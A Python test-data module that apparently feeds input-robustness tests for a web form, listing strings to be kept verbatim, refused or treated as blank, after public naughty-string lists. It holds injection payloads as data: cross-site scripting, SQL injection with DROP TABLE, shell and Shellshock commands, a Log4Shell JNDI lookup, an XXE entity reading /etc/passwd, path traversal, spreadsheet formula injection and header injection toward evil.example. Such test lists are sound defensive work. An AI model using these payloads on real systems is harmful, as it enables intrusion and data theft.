"""Texts that break programs: our own list, after the kinds of the public lists (R22).

Each is either kept as it was typed or refused with a message; none is run, cut or lost.
"""

# Kept word for word, wherever somebody may write a text.
KEPT = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "</textarea><svg/onload=alert(1)>",
    "<!-- -->]]>&lt;b&gt;&amp;",
    "{{ 7|add:35 }}{% debug %}",
    "{{ demandeur.nom_courrier }}",
    "${7*6} #{7*6} <%= 7*6 %>",
    "%s %(x)s %d {0} {x!r}",
    "Robert'); DROP TABLE requests_servicerequest;--",
    "' OR '1'='1",
    "\\' \\\\ \\n \\u0041 %00 %0d%0a",
    '=HYPERLINK("http://x";"y")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "$(touch /tmp/x) `id` ; ls | cat",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇫🇷 1️⃣",
    "田中さんにあげて下さい 和製漢語",
    "مُنَاقَشَةُ סברה",
    "𝕿𝖍𝖊 ﷽ ‱ Ω≈ç√∫ ˜µ≤≥÷",
    "Ŀ’Œuvre d’Aïcha‑Zoé Ñuñez",
    "null undefined NaN True None 0 -1 1e309 0x0",
    "a​b­c﻿d",
    "http://evil.example/?a=1&b=<2>",
    "Bcc: tous@evil.example",
)
# Refused with a message: they would forge a line, a direction of reading, or a byte.
REFUSED = (
    "a\x00b",
    "a\x1b[31mb",
    "a\x08b",
    "photo\u202efdp.exe",
    "a\u2066b\u2069c",
)
# Nothing to be seen in them: as if nothing had been typed.
BLANK = ("   ", "\u00a0\u2003\u3000", "\u200b\u200d\ufeff", "\t\r\n")

# The further classes of the public list, one after the other; tried together in fields of several
# lines, and in handfuls (`handfuls`) in those of one.
CLASSES = {
    "reserved words": (
        "undefined",
        "null",
        "nil",
        "NULL",
        "(null)",
        "None",
        "hasOwnProperty",
        "then",
        "constructor",
        "__proto__",
        "TRUE",
        "false",
        "\\",
        "\\\\",
        "admin",
        "self",
        "__class__",
    ),
    "numbers": (
        "0",
        "-1",
        "-0.00",
        "1/0",
        "1E+02",
        "0x0",
        "0xffffffffffffffff",
        "NaN",
        "-Infinity",
        "1,000,000.00",
        "1 000 000,00",
        "9223372036854775808",
        "1.#QNAN",
        "01000",
        "123456789012345678901",
    ),
    "signs": (
        ",./;'[]-=",
        '<>?:"{}|_+',
        "!@#$%^&*()`~",
        "''",
        "'\"'",
        "\"''''\"'\"",
        "ˇ∆˚¬…æ",
        "¡™£¢∞§¶•ªº–≠",
    ),
    "symbols": (
        "⁰⁴⁵₀₁₂",
        "ด้้้้้็็็็็้้้้้",
        "⅛⅜⅝⅞",
        "ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ",
        "٠١٢٣٤٥٦٧٨٩",
    ),
    "two bytes and more": (
        "パーティーへ行かないか",
        "사회과학원 어학연구소",
        "찦차를 타고 온 펲시맨과",
        "𠜎𠜱𠝹𠱓",
        "新しい日本語",
    ),
    "changes of length with case": ("ȺȾ", "İıŞ ſ ß ẞ ŉ ǰ", "ﬁﬂﬃ Ǆ ǆ"),
    "faces and emoji": (
        "ヽ༼ຈل͜ຈ༽ﾉ",
        "(｡◕ ∀ ◕｡)",
        "¯\\_(ツ)_/¯",
        "👾 🙇 💁 🙅 🙆",
        "🏿👩🏽",
        "🇺🇸🇷🇺🇸",
        "❤️ 💔 💌",
    ),
    "right to left": ("בְּרֵאשִׁית, בָּרָא אֱלֹהִים", "הָיְתָהtestالصفحات التّحول", "﷽", "ﷺ"),
    "marks without end": (
        "̡͎̭H̘̭͝e̸ ͜͠c̷o̡mes",
        "T̗h̼̹̙e͇ n̼͎e̻z",
        "˙ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop",
        "Ｔｈｅ ｑｕｉｃｋ",
        "🅃🄷🄴 𝓺𝓾𝓲𝓬𝓴",
    ),
    "scripts": (
        "<scr<script>ipt>alert(2)</scr</script>ipt>",
        '"><script>alert(3)</script>',
        '<IMG """><SCRIPT>alert(4)</SCRIPT>">',
        "<body onload=alert(5)>",
        '<a href="javas cript:alert(6)">x</a>',
        "<iframe src=//evil.example></iframe>",
        "</title><script>alert(7)</script>",
        "` onerror=alert(8)",
        "<details open ontoggle=alert(9)>",
        "<math><mi xlink:href=data:,1>",
        "&#x3C;script&#x3E;",
    ),
    "databases": (
        "1;DROP TABLE users",
        "1'; DROP TABLE users-- 1",
        "' OR 1=1 -- 1",
        "%",
        "_",
        "$$;select pg_sleep(1)--",
        "E'\\x41'",
        "1) UNION SELECT NULL--",
    ),
    "servers and shells": (
        "-",
        "--",
        "--version",
        "--help",
        "$USER",
        "/dev/null; touch /tmp/x ; echo",
        "`touch /tmp/x`",
        '@{[system "touch /tmp/x"]}',
        "eval(\"puts 'x'\")",
        'System("ls")',
        "%x('ls')",
        "() { 0; }; touch /tmp/x;",
        "$HOME",
        "$ENV{'HOME'}",
        "%*.*s",
        "%n%n%n",
        "{0}",
        "${jndi:ldap://x/a}",
    ),
    "templates": (
        "{% load i18n %}{% include 'base.html' %}",
        "{{ request.user.password }}",
        "{# x #}",
        "{{ ''.__class__.__mro__ }}",
        "{%",
        "}}",
        "#{7*7}",
        "*{7*7}",
        "{{= 7*7 }}",
        "[[7*7]]",
    ),
    "entities and files": (
        '<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><f>&x;</f>',
        "..%2f..%2fetc%2fpasswd",
        "....//....//etc/hosts",
        "\\\\evil\\share",
        "CON",
        "PRN",
        "LPT1",
        "AUX",
        "COM9",
        "A:",
    ),
    "words that filters dislike": (
        "Scunthorpe General Hospital",
        "Penistone Community Church",
        "Craig Cockburn",
    ),
    "words for people": (
        "If you're reading this, you've been in a coma.",
        "DCC SEND STARTKEYLOGGER 0 0 0",
    ),
    "what broke telephones": ("Power لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗", "జ్ఞ‌ా", "🏳0🌈️"),
}
MORE = tuple(text.strip() for texts in CLASSES.values() for text in texts)
ALL = (*KEPT, *MORE)


def handfuls(length: int, texts=ALL) -> list[str]:
    """The texts side by side, in as few lines as fit."""
    lines = [""]
    for text in texts:
        if len(lines[-1]) + len(text) + 1 > length:
            lines.append("")
        lines[-1] = f"{lines[-1]} {text}".strip()
    return [line for line in lines if len(line) <= length]
